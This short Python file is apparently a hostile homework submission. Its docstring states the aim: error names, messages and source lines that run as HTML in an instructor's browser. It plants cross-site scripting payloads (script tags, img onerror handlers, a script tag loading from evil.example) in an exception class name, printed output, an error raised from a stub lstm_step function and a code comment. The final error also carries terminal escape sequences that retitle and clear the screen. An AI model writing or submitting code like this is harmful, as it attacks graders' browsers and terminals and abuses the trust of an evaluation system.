"""Raise an error whose name, text and source line are HTML that runs in the instructor's browser."""

Evil = type("<script>alert(1)</script>", (ValueError,), {})
print("TRIED", "<img src=x onerror=alert(1)>")


def lstm_step(x, h, c, W, U, b):
    raise ValueError("<script>alert(2)</script>")  # <script src=//evil.example>alert(3)</script>


raise Evil("<img src=x onerror=alert(4)>\x1b]0;owned\x07\x1b[2J")
